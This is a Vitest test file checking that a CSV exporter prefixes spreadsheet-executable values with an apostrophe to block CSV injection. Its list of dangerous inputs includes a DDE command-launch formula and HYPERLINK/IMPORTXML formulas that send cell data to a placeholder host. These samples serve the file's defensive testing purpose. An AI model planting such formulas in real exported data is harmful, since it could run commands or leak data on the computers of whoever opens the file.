import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { guardFormula, withoutGuard } from '../../fields/as-text/formula-guard.ts';
import { aField, type CsvDatabase, openCsvDatabase } from './csv-database.ts';

let database: CsvDatabase;
beforeAll(async () => {
  database = await openCsvDatabase();
});
afterAll(() => database.close());

/** Texts that spreadsheets run, also behind characters they skip (CWE-1236, OWASP "CSV injection"). */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '-5',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\ttext',
  '\rtext',
  '\ntext',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u2060\u00ad =1',
  '\u3000@x',
  '\u202e=1',
  '\u0001=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '|cmd',
  '%0A=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/"&A1)',
  '=IMPORTXML("http://x","//a")',
  '=1+1\r\n=2+2',
  // Texts that look guarded already: without another apostrophe, nobody could tell whose the first one is.
  "'=1",
  "''=1",
  "'-x",
  "'\n=1",
  "' =1",
];
const HARMLESS = [
  '1=1',
  'a@b.co',
  "'tis",
  "''",
  "'1=1",
  '"=1',
  ';=1',
  ',=1',
  'a-b',
  '(=1)',
  'é=1',
  '日本',
  ':=1',
  '{=1}',
  '~',
  ' x',
];
const ALL = [...DANGEROUS, ...HARMLESS];

test('both sides guard the same, and what they guard comes back as it was', () => {
  for (const text of ALL) {
    expect(guardFormula(text), text).toBe(guarded(text));
    expect(withoutGuard(guardFormula(text)), text).toBe(text);
  }
});

const guarded = (text: string) => (DANGEROUS.includes(text) ? `'${text}` : text);

describe('text that a spreadsheet would run gets an apostrophe and everything else is left alone', () => {
  test.each(['text', 'select', 'hologram', 'number', 'checkbox', 'matrix', 'multi_select'])(
    'as answer to %s',
    async (type) => {
      await database.store(ALL.map((text) => ({ data: { a: text } })));
      const [, ...rows] = await database.export([aField('a', type)], ['id', 'a']);
      // In a number field, a text that is a number counts as a number.
      const expected = ALL.map((text) => (type === 'number' && text === '-5' ? text : guarded(text)));
      expect(rows.map((row) => row[1])).toEqual(expected);
    },
  );

  test('as first option of a list', async () => {
    await database.store(ALL.map((text) => ({ data: { a: [text, 'b'] } })));
    const [, ...rows] = await database.export([aField('a', 'multi_select')], ['id', 'a']);
    expect(rows.map((row) => row[1])).toEqual(ALL.map((text) => `${guarded(text)}, b`));
  });

  test('as row of a matrix', async () => {
    await database.store(ALL.map((text) => ({ data: { a: { [text]: 'x' } } })));
    const [, ...rows] = await database.export([aField('a', 'matrix', { rows: ALL })], ['id', 'a']);
    expect(rows.map((row) => row[1])).toEqual(ALL.map((text) => `${guarded(text)}: x`));
  });

  test('as attribution', async () => {
    await database.store(ALL.map((text) => ({ data: {}, attribution: { utm_source: text } })));
    const [header, ...rows] = await database.export([], ['id', 'meta.attribution.utm_source']);
    expect(header).toEqual(['id', 'utm_source']);
    expect(rows.map((row) => row[1])).toEqual(ALL.map(guarded));
  });

  test('as field name', async () => {
    const fields = ALL.map((text, index) => ({ ...aField(`f${index}`, 'text'), name: text }));
    const [header] = await database.export(
      fields,
      fields.map((field) => field.id),
    );
    expect(header).toEqual(ALL.map(guarded));
  });
});
